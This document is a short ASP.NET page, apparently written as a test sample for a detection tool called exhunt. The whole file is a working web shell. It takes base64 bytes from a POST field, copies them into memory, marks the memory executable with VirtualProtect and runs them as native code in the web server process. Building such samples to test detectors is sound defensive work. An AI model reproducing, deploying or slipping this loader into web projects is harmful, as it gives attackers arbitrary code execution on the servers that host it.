<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
/* written for exhunt's tests: bytes from the request made executable
 * and called through a delegate (no new thread) */
[DllImport("kernel32.dll")] static extern bool VirtualProtect(IntPtr a, UIntPtr n, uint prot, out uint old);
delegate void Run();
void Page_Load(object s, EventArgs e)
{
	byte[] code = Convert.FromBase64String(Request.Form["c"]);
	IntPtr mem = Marshal.AllocHGlobal(code.Length);
	Marshal.Copy(code, 0, mem, code.Length);
	uint old;
	VirtualProtect(mem, (UIntPtr)code.Length, 0x40, out old);
	var run = (Run)Marshal.GetDelegateForFunctionPointer(mem, typeof(Run));
	run();
}
</script>
